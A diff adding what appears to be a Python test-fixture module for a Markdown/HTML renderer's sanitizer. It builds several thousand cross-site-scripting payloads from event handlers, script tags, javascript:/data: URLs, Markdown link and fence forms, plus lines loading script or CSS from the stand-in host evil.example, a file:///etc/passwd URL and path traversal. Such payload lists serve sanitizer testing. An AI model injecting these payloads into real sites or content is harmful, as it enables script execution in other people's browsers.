@@ -1,0 +1,145 @@
+"""Texts that would run a script in a careless renderer: payloads times places to put them."""
+
+# ruff: noqa: E501
+from itertools import product
+
+CALL = "alert(1)"
+HANDLERS = (
+    "onerror",
+    "onload",
+    "onclick",
+    "onfocus",
+    "ontoggle",
+    "onmouseover",
+    "onbegin",
+    "onanimationstart",
+    "ONERROR",
+    "onpointerrawupdate",
+    "onscrollsnapchange",
+)
+ELEMENTS = (
+    "<img src=x {on}={call}>",
+    "<svg {on}={call}>",
+    "<svg/{on}={call}>",
+    "<body {on}={call}>",
+    "<details open {on}={call}>",
+    "<video><source {on}={call}></video>",
+    "<img/src='x'/{on}={call}>",
+    "<input autofocus {on}={call}>",
+    "<a href='#' {on}='{call}'>x</a>",
+    "<table {on}={call}>",
+    '<img src="x` `<b>" {on}="{call}">',
+    "<math><mi {on}={call}>",
+    "<p {on}={call}>x",
+)
+RAW = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html,x>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<b style='background:url(javascript:alert(1))'>x</b>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=javascript:alert(1)//>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<title><img src=x onerror=alert(1)></title>",
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<img src=javascript:alert(1)>",
+    "<audio src onloadstart=alert(1)>",
+    "</p><script>alert(1)</script>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x contenteditable autofocus onfocus=alert(1)>x",
+)
+URLS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "&#0000106avascript:alert(1)",
+    "javascript:alert(1)//http://x",
+    "\\x6aavascript:alert(1)",
+    "\x01javascript:alert(1)",
+    " javascript:alert(1)",
+    "javascript\\:alert(1)",
+    "javascript%3Aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg/onload=alert(1)>",
+    "data:image/png;base64,AAAA",
+    "DATA:text/html,x",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "blob:https://x/y",
+    "filesystem:x",
+    "ftp://x/y",
+    "javascript://%0aalert(1)",
+    "feed:javascript:alert(1)",
+    "view-source:javascript:alert(1)",
+    '/media/x.png" onerror=alert(1) x="',
+    "/media/../../admin/",
+    "//evil.example/x.png",
+    "https://evil.example/x.png",
+)
+URL_FORMS = (
+    "[x]({url})",
+    "[x](<{url}>)",
+    "![x]({url})",
+    "![x](<{url}>)",
+    "<{url}>",
+    "[x][r]\n\n[r]: {url}",
+    "![x][r]\n\n[r]: <{url}>",
+    '[x]({url} "a\\" onclick=alert(1) \\"")',
+    "[![x]({url})]({url})",
+    "<a href='{url}'>x</a>",
+    '<img src="{url}">',
+)
+PLACES = (
+    "{}",
+    "# {}",
+    "- {}",
+    "> {}",
+    "| a |\n|---|\n| {} |",
+    "**{}**",
+    "`` `{}",
+    "text {} text",
+    "- [ ] {}",
+)
+FENCES = (
+    '```"><script>alert(1)</script>\nx\n```',
+    "```mermaid\n<script>alert(1)</script>\n```",
+    "```' onload=alert(1) x='\nx\n```",
+    "~~~js onload=alert(1)\n</code></pre><script>alert(1)</script>\n~~~",
+    "    <script>alert(1)</script>",
+    "```\n</pre><img src=x onerror=alert(1)>\n```",
+)
+
+
+def payloads() -> list[str]:
+    """Every payload in every place; several thousand, without repetition."""
+    elements = [e.format(on=on, call=CALL) for e, on in product(ELEMENTS, HANDLERS)]
+    links = [form.format(url=url) for form, url in product(URL_FORMS, URLS)]
+    placed = [place.format(text) for place, text in product(PLACES, [*RAW, *elements, *links])]
+    return list(dict.fromkeys([*placed, *FENCES]))
